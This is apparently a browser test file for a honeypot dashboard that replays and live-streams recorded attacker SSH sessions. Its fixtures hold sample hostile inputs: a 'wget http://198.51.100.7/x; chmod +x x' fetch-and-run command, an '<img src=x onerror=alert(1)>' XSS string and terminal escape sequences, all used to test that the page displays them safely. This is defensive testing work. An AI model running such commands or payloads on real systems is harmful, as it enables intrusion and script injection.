"""A session's page: its terminal played again and watched live, with all that the attacker did around it."""

import itertools
import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, expect

from samovar.asciicast import Entry, Size, head, line
from tests.browser.site import Site
from tests.browser.test_looks import violations
from tests.web.fakes import HOSTILE

_COUNT = itertools.count(1)


class Recorded:
    """A session on the site with a terminal, whose recording can go on."""

    def __init__(self, site: Site, *, live: bool = False) -> None:
        self.site = site
        self.id = f"{int((time.time() - 2) * 1e6):013x}abcdef{next(_COUNT):04x}"
        self.path: Path = site.state.recordings / f"{self.id}.cast"
        self.path.write_bytes(head(self.id, Size(80, 24, "xterm")))
        if live:
            site.state.growing.add(self.id)
        self.event(event_action="connect")
        self.event(event_action="login", user_name="root", samovar_login_password=HOSTILE, event_outcome="success")

    def event(self, **fields: object) -> None:
        """Something it did."""
        common: dict[str, object] = {
            "event_module": "terminal",
            "event_dataset": "terminal.ssh",
            "samovar_session_id": self.id,
            "source_ip": "198.51.100.77",
            "samovar_client_version": "SSH-2.0-Go",
            "user_name": None,
            "samovar_login_password": None,
            "process_command_line": None,
        }
        self.site.attack(10_000 + next(_COUNT) * 3, **{**common, **fields})

    def show(self, offset: float, *texts: str, code: str = "o") -> None:
        """What the terminal shows."""
        with self.path.open("ab") as file:
            for text in texts:
                file.write(line(Entry(offset, "i" if code == "i" else "o", text)))


@pytest.fixture
def session(site: Site) -> Recorded:
    """One that is over: two commands, one file."""
    made = Recorded(site)
    made.show(1.0, "Welcome to urn\r\n", "root@urn:~# ")
    made.show(1.5, "una", "\b \bame -a\r", code="i")
    made.show(3.5, "uname -a\r\nLinux \x1b[31mred\x1b[0m <b>bold</b>\u202e \x1b]0;title\x07x\r\n")
    made.event(event_action="command", process_command_line="uname -a", threat_technique_id="T1082")
    made.event(
        event_action="command",
        process_command_line="wget http://198.51.100.7/x; chmod +x x",
        threat_technique_id="T1105",
        samovar_detail={"techniques": "T1105 T1222.002"},
    )
    made.event(event_action="file", file_name="x", file_hash_sha256="ab" * 32, file_size=1234)
    made.show(20.0, "root@urn:~# exit\r\n")
    made.event(event_action="disconnect")
    return made


def test_all_of_a_session_is_there(page: Page, site: Site, session: Recorded) -> None:
    page.goto(f"{site.url}/sessions/{session.id}")
    expect(page.locator(".ap-player .ap-control-bar")).to_be_visible()
    expect(page.locator(".ap-marker")).to_have_count(2)
    transcript = page.get_by_role("region", name="Lines of the terminal")
    expect(transcript).to_contain_text("Linux red <b>bold</b>⟨U+202E⟩ x")
    page.get_by_role("button", name="Keys", exact=True).click()
    expect(transcript).to_contain_text("uname -a")
    facts = page.get_by_role("region", name=f"Session {session.id}")
    expect(facts).to_contain_text("SSH-2.0-Go")
    expect(facts.get_by_role("link", name="Ingress Tool Transfer")).to_have_attribute(
        "href", "https://attack.mitre.org/techniques/T1105/"
    )
    expect(facts.get_by_role("button", name="T1222.002")).to_be_visible()
    expect(page.get_by_role("region", name="Credentials")).to_contain_text("root")
    expect(page.get_by_role("link", name="Download abab")).to_have_attribute("download", re.compile(r"\.bin$"))
    facts.get_by_role("button", name="T1082").click()
    expect(page).to_have_url(re.compile(r"f=technique%3AT1082|f=technique:T1082"))


def test_it_is_played_from_a_command_on(page: Page, site: Site, session: Recorded) -> None:
    page.goto(f"{site.url}/sessions/{session.id}")
    page.get_by_role("button", name="Replay from event").first.click()
    expect(page.locator(".ap-term")).to_contain_text("Linux red <b>bold</b>")
    expect(page).to_have_title(re.compile("Samovar"))
    page.get_by_role("button", name="4×").click()
    expect(page.get_by_role("button", name="4×")).to_have_attribute("aria-pressed", "true")
    expect(page.locator(".ap-player")).to_be_visible()


def test_a_command_chosen_before_the_player_has_come_is_played_then(page: Page, site: Site, session: Recorded) -> None:
    held: list[Route] = []
    page.route(re.compile(r"/player-[^/]*\.js$"), lambda route: held.append(route))
    with page.expect_request(re.compile(r"/player-[^/]*\.js$")):
        page.goto(f"{site.url}/sessions/{session.id}")
    page.get_by_role("button", name="Replay from event").first.click()
    expect(page.locator(".ap-term")).to_have_count(0)
    held[0].continue_()
    expect(page.locator(".ap-term")).to_contain_text("Linux red <b>bold</b>")


def test_accessible_in_both_themes_and_narrow(page: Page, site: Site, session: Recorded, axe: str) -> None:
    for theme in ("dark", "light"):
        page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
        page.goto(f"{site.url}/sessions/{session.id}")
        expect(page.locator(".ap-player .ap-control-bar")).to_be_visible()
        expect(page.locator(".skeleton")).to_have_count(0)
        assert violations(page, axe) == []
    page.set_viewport_size({"width": 360, "height": 740})
    expect(page.locator(".ap-player")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_it_is_watched_while_the_attacker_types_and_replayed_when_he_leaves(page: Page, site: Site) -> None:
    running = Recorded(site, live=True)
    running.show(1.0, "root@urn:~# ")
    page.goto(f"{site.url}/sessions?q=session:{running.id}")
    page.get_by_role("link", name=f"Watch {running.id}").click()
    expect(page.get_by_role("status").filter(has_text="live")).to_be_visible()
    terminal = page.locator(".ap-term")
    expect(terminal).to_contain_text("root@urn:~#")
    running.show(70.0, "whoami\r\n<img src=x onerror=alert(1)>\r\n")
    expect(terminal).to_contain_text("whoami")
    expect(terminal).to_contain_text("<img src=x onerror=alert(1)>")
    site.state.growing.discard(running.id)
    running.event(event_action="disconnect")
    expect(page.get_by_role("heading", name="Terminal", exact=True)).to_be_visible()
    expect(page.locator(".ap-control-bar")).to_be_visible()
    expect(page.get_by_role("region", name="Lines of the terminal")).to_contain_text("whoami")


def test_a_recording_that_is_gone_says_so(page: Page, site: Site, session: Recorded) -> None:
    page.route("**/*.cast", lambda route: route.fulfill(status=404, body="{}"))
    page.goto(f"{site.url}/sessions/{session.id}")
    expect(page.get_by_role("alert")).to_contain_text("given up for room")


def test_the_list_says_what_was_recorded_and_goes_on_when_scrolled(page: Page, site: Site, session: Recorded) -> None:
    page.goto(f"{site.url}/sessions")
    expect(page.get_by_role("link", name=f"Replay {session.id}")).to_be_visible()
    table = page.get_by_role("region", name="Table of sessions")
    rows = table.locator("tr[aria-rowindex]")
    expect(rows.first).to_be_visible()
    assert rows.count() < 80
    page.keyboard.press("j")
    expect(table.locator("tr.at")).to_have_attribute("aria-rowindex", "1")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/sessions/[0-9a-z]{23}"))
